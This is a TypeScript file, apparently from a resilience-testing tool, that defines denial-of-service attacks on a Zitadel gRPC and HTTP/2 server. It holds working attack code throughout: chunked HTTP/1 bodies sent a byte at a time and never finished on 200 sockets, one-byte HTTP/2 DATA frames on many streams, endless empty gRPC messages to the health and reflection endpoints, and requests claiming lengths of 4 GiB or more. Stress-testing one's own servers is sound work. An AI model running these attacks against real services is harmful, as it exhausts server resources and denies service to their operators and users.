import type { Attack } from "../attack.ts";
import { frame, frameType } from "../../http/raw-http2.ts";
import { bearer, openRead, request } from "../wire/http1.ts";
import { grpcBlock, openHttp2, streamFrames } from "../wire/http2.ts";
import { envelope } from "../wire/messages.ts";
import { atOnce, flood, send, Span } from "../wire/pace.ts";

const settings = "/zitadel.settings.v2.SettingsService/GetLockoutSettings";
const check = "/grpc.health.v1.Health/Check";
const reflection = "/grpc.reflection.v1.ServerReflection/ServerReflectionInfo";

export const chunkedCalls: Attack = {
  name: "chunked-calls",
  what: "200 calls with a token whose bodies of 200 kB come in chunks of a byte, and never end.",
  role: "ORG_OWNER_VIEWER",
  run: async (target, tally) => {
    const span = new Span(target);
    const head = request("POST", settings, {
      ...bearer(target.token),
      "transfer-encoding": "chunked",
    });
    const some = Buffer.concat(Array(1000).fill(Buffer.from("1\r\n \r\n")));
    await atOnce(200, async () => {
      const socket = await openRead(target, tally);
      socket.write(head);
      for (let turn = 0; turn < 200; turn += 1) {
        if (!(await send(socket, some, span))) {
          break;
        }
      }
    });
    await span.rest();
    return undefined;
  },
};

export const byteFrames: Attack = {
  name: "byte-frames",
  what: "Calls with a token whose bodies come in DATA frames of a byte, and never end, on 20 streams of each of 8 connections.",
  role: "ORG_OWNER_VIEWER",
  run: async (target, tally) => {
    const span = new Span(target);
    const block = grpcBlock(settings, { token: target.token });
    const length = Buffer.of(0, 0, 3, 0, 0);
    await atOnce(8, async () => {
      const connection = await openHttp2(target, tally);
      const streams = Array.from({ length: 20 }, () => connection.next());
      for (const stream of streams) {
        connection.write(streamFrames(stream, block, length, false));
      }
      // The windows of the streams have room for 65,000.
      for (let turn = 0; turn < 60; turn += 1) {
        for (const stream of streams) {
          const byte = frame(frameType.data, 0, stream, Buffer.of(1));
          const frames = Buffer.concat(Array(1000).fill(byte));
          if (!(await connection.more(frames, 1000, span))) {
            return;
          }
        }
      }
    });
    await span.rest();
    return undefined;
  },
};

/** A stream whose content goes on and on, on connections that are opened anew when they are closed. */
function endless(
  { name, what }: Pick<Attack, "name" | "what">,
  path: string,
  content: Buffer,
): Attack {
  return {
    name,
    what,
    run: async (target, tally) => {
      const span = new Span(target);
      await atOnce(8, async () => {
        while (!span.over) {
          const connection = await openHttp2(target, tally);
          const stream = connection.next();
          const block = grpcBlock(path);
          connection.write(streamFrames(stream, block, undefined, false));
          const frames = frame(frameType.data, 0, stream, content);
          while (await connection.more(frames, content.length, span)) {}
          await new Promise(setImmediate);
        }
      });
      return undefined;
    },
  };
}

const empties = Buffer.concat(Array(3000).fill(envelope(Buffer.alloc(0))));

export const emptyMessages = endless(
  {
    name: "empty-messages",
    what: "A unary call with messages of no length without an end.",
  },
  check,
  empties,
);

export const emptyQuestions = endless(
  {
    name: "empty-questions",
    what: "ServerReflectionInfo with messages of no length without an end, whose responses are read.",
  },
  reflection,
  empties,
);

export const claimedLengths: Attack = {
  name: "claimed-lengths",
  what: "Messages that are said to have 4 GiB, and chunks and bodies that are said to be longer, on 8 connections that are opened anew.",
  run: async (target, tally) => {
    const span = new Span(target);
    const type = { "content-type": "application/grpc-web" };
    const claim = Buffer.from([0, 255, 255, 255, 255, 1, 2, 3]);
    const asked = [
      request("POST", check, type, claim),
      request("POST", check, { ...type, "content-length": "99999999999999" }),
      Buffer.concat([
        request("POST", check, { ...type, "transfer-encoding": "chunked" }),
        Buffer.from("7fffffffffffff\r\n"),
      ]),
    ];
    await atOnce(8, async (lane) => {
      for (let turn = lane; !span.over; turn += 1) {
        const socket = await openRead(target, tally);
        const one = asked[turn % asked.length] ?? Buffer.alloc(0);
        await send(socket, one, span);
        if (turn % asked.length > 0) {
          const body = Buffer.alloc(65_536);
          await flood(socket, () => body, new Span({ seconds: 0.5 }));
        }
        socket.destroy();
      }
    });
    return undefined;
  },
};
